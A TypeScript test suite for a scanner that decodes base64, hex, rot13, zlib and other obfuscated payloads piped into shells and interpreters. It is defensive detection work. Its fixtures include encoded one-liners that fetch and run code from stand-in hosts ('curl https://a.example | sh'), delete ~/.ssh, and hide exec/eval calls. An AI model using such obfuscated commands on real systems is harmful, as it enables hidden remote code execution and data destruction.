// Encoded payloads: literal base64 / hex / \x-escapes decoded (never run), with what runs them.
// Corpus fixture: corpus/cases/encoded-payloads. Here: each form, the quiet cases, bounds and a no-crash property.

import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeLiteral, findPayloads, flattenPayloads, MAX_DEPTH, MAX_PAYLOADS, programGiven } from '../src/analysis/decode.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const hex = (s: string) => Buffer.from(s).toString('hex');
const one = (t: string) => findPayloads(t).map((p) => ({ chain: p.chain, sink: p.sink, text: p.text }));

describe('findPayloads', () => {
  it.each([
    [`echo ${b64('curl https://a.example | sh')} | base64 -d | bash`, ['base64 -d', 'bash'], 'curl https://a.example | sh'],
    [`echo "${b64('id; whoami')}" | base64 --decode | sudo bash`, ['base64 -d', 'bash'], 'id; whoami'],
    [`bash -c "$(echo ${b64('id; uname -a')} | base64 -d)"`, ['base64 -d', 'bash -c'], 'id; uname -a'],
    [`base64 -d <<< '${b64('curl https://b.example/x')}' | sh`, ['base64 -d', 'sh'], 'curl https://b.example/x'],
    [`echo ${hex('rm -rf ~/.ssh; id')} | xxd -r -p | bash`, ['xxd -r -p', 'bash'], 'rm -rf ~/.ssh; id'],
    [`eval $'\\x69\\x64\\x3b\\x20\\x77\\x68\\x6f\\x61\\x6d\\x69'`, ["printf '\\x..'", 'eval'], 'id; whoami'],
    [`python3 -c "import base64;exec(base64.b64decode('${b64('import os;os.system(\"id\")')}'))"`, ['base64.b64decode', 'exec'], 'import os;os.system("id")'],
    [`eval(Buffer.from("${b64('require("child_process").execSync("id")')}", "base64").toString())`, ["Buffer.from(…, 'base64')", 'eval'], 'require("child_process").execSync("id")'],
    [`iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64('Get-Process; whoami')}')))`, ['[Convert]::FromBase64String'], 'Get-Process; whoami'],
  ])('%s', (line, chain, text) => {
    const got = one(line);
    expect(got).toHaveLength(1);
    expect(got[0]!.chain).toEqual(chain);
    expect(got[0]!.text).toBe(text);
  });

  it('text transforms: a reversed literal, character codes, URL escapes, rot13, base85 and Ascii85', () => {
    const code = 'import os; os.system("id")';
    const codes = [...code].map((c) => c.charCodeAt(0)).join(', ');
    const rot = code.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.charCodeAt(0) - (c <= 'Z' ? 65 : 97) + 13) % 26) + (c <= 'Z' ? 65 : 97)));
    const b85 = 'X>D+Ca&#bXb31QyE^~QvbY*QQB57nIDF';
    const a85 = 'Bl.g-Ec`FBF$";]/ou;ZFCf;;,&(R3.0';
    expect(one(`exec('${[...'import os; os.system(cmd)'].reverse().join('')}'[::-1])`)).toEqual([{ chain: ['[::-1]', 'exec'], sink: 'exec', text: 'import os; os.system(cmd)' }]);
    expect(one(`exec("".join(chr(c) for c in [${codes}]))`)).toEqual([{ chain: ['chr()', 'exec'], sink: 'exec', text: code }]);
    expect(one(`exec(''.join(map(chr, [${codes}])))`)[0]!.text).toBe(code);
    expect(one(`exec(unquote('${encodeURIComponent(code)}'))`)).toEqual([{ chain: ['unquote', 'exec'], sink: 'exec', text: code }]);
    expect(one(`exec(codecs.decode('${rot}', 'rot13'))`)).toEqual([{ chain: ['rot13', 'exec'], sink: 'exec', text: code }]);
    expect(one(`exec(base64.b85decode('${b85}'))`)[0]!.text).toBe('import os;os.system("id")');
    expect(one(`exec(base64.a85decode('${a85}'))`)[0]!.text).toBe('import os;os.system("id")');
    expect(one(`eval(String.fromCharCode(${[...'require("child_process")'].map((c) => c.charCodeAt(0)).join(',')}))`)[0]!.chain).toEqual(['String.fromCharCode', 'eval']);
    expect(one(`eval(decodeURIComponent('${encodeURIComponent('fetch("https://x.example")')}'))`)[0]!.text).toBe('fetch("https://x.example")');
  });

  it('text transforms stay quiet on short or non-code literals', () => {
    expect(one(`print('olleh'[::-1])`)).toEqual([]);
    expect(one(`s = String.fromCharCode(72, 105)`)).toEqual([]);
    expect(one(`print(''.join(chr(c) for c in [72, 101, 108, 108, 111, 32, 119, 111, 114, 108, 100]))`)).toEqual([{ chain: ['chr()'], sink: null, text: 'Hello world' }]);
  });

  it('PowerShell -EncodedCommand is UTF-16LE and runs itself', () => {
    const enc = Buffer.from('Write-Output pwned; iwr https://p.example', 'utf16le').toString('base64');
    expect(one(`pwsh -nop -enc ${enc}`)).toEqual([{ chain: ['powershell -EncodedCommand'], sink: 'powershell', text: 'Write-Output pwned; iwr https://p.example' }]);
  });

  it('follows simple variables within a file: literal → decode → exec on a later line', () => {
    const t = `P = "${b64('import os; os.system("id")')}"\n\ndef go():\n    d = base64.b64decode(P)\n    exec(d)\n`;
    const [p] = findPayloads(t);
    expect(p!.chain).toEqual(['base64.b64decode of P', 'exec']);
    expect(p!.sinkLine).toBe(5);
  });

  it('a decode of an unknown value is a finding only when it is run', () => {
    expect(one('    exec(base64.b64decode(payload))')).toEqual([{ chain: ['base64.b64decode of payload', 'exec'], sink: 'exec', text: null }]);
    expect(one('x = base64.b64decode(data)\nprint(x)\n')).toEqual([]);
    expect(one('base64 -d /tmp/.x | bash')).toEqual([{ chain: ['base64 -d', 'bash'], sink: 'bash', text: null }]);
  });

  it('decodes zlib-compressed base64', () => {
    const z = deflateSync(Buffer.from('import os\nos.system("id")')).toString('base64');
    expect(one(`exec(zlib.decompress(base64.b64decode("${z}")))`)[0]!.chain).toEqual(['base64.b64decode', 'decompress', 'exec']);
  });

  it('stays quiet on data decoding and on binary payloads', () => {
    expect(one(`kubectl get secret a -o jsonpath="{.data.password}" | base64 -d`)).toEqual([]);
    expect(one(`gh api repos/a/b/contents/x --jq .content | base64 -d > x.json`)).toEqual([]);
    const bin = Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 37) % 256)).toString('base64');
    expect(one(`img = base64.b64decode("${bin}")`)).toEqual([]);
  });

  it(`decodes a payload inside a payload, ${MAX_DEPTH} levels at most`, () => {
    let t = 'curl https://deep.example | sh';
    for (let i = 0; i < MAX_DEPTH + 2; i++) t = `echo ${b64(t)} | base64 -d | sh`;
    const flat = flattenPayloads(findPayloads(t));
    expect(flat).toHaveLength(MAX_DEPTH);
    expect(flat[1]!.chain).toEqual(['base64 -d', 'sh', 'base64 -d', 'sh']);
  });

  it(`decodes at most ${MAX_PAYLOADS} payloads per text`, () => {
    const line = `echo ${b64('id; whoami; uname')} | base64 -d | sh\n`;
    expect(findPayloads(line.repeat(MAX_PAYLOADS + 10))).toHaveLength(MAX_PAYLOADS);
  });

  it('decodeLiteral rejects what is not the encoding', () => {
    expect(decodeLiteral('not base64 at all!', 'base64')).toBeNull();
    expect(decodeLiteral('abc', 'hex')).toBeNull();
  });

  it('property: any text yields payloads without throwing, each span inside the text', () => {
    const piece = fc.constantFrom('echo ', ' | base64 -d', ' | bash', 'exec(', 'b64decode(', '"', "'", '\\x41', 'xxd -r -p', '$(', '\n', b64('id; curl x'), 'P = ', 'atob(', 'powershell -enc ', 'AAAA');
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 8 })), { maxLength: 40 }), (parts) => {
        const t = parts.join('');
        for (const p of findPayloads(t)) {
          expect(p.start).toBeGreaterThanOrEqual(0);
          expect(p.end).toBeLessThanOrEqual(t.length);
          expect(p.start).toBeLessThan(p.end);
        }
      }),
      { numRuns: 1000 },
    );
  });
});

describe('programGiven: whether the interpreter a decoded stream is piped into has its program already', () => {
  it.each([
    [' -c "import sys; print(sys.stdin.read())"', true],
    [' -u -c "x"', true],
    [' -e "process.stdin.pipe(process.stdout)"', true],
    [' -lc "cat"', true],
    [' -m json.tool', true],
    [' tool.py --flag', true],
    ['', false],
    [' -', false],
    [' -s', false],
    [' -u', false],
    [' -x -s arg', false],
    [' | tee out', false],
    ['")', false],
    ['"]', false],
    ["' ])", false],
    [' ) ', false],
    [' "$SCRIPT"', false],
    [' ./run.sh', true],
    [' -c "import sys; exec(sys.stdin.read())"', false],
    [` -c 'eval "$(cat)"'`, false],
    [' -c "\nimport sys\ncode = sys.stdin.read()\nexec(code)\n"', false],
    [' -c "source /dev/stdin"', false],
    [' -c "\nimport sys, yaml\ndata = yaml.safe_load(sys.stdin)\nprint(data)\n"', true],
  ])('after the interpreter: %j → %s', (after, want) => {
    expect(programGiven(after)).toBe(want);
  });

  it('a stream piped into a script the command line gives is data; into a bare interpreter it is code', () => {
    const data = findPayloads('gh api x --jq .content | base64 -d | python3 -c "import sys; print(sys.stdin.read())"\n');
    const code = findPayloads('gh api x --jq .content | base64 -d | python3 -\n');
    expect(data.filter((p) => p.sink !== null)).toEqual([]);
    expect(code.map((p) => p.sink)).toEqual(['python3']);
  });
});
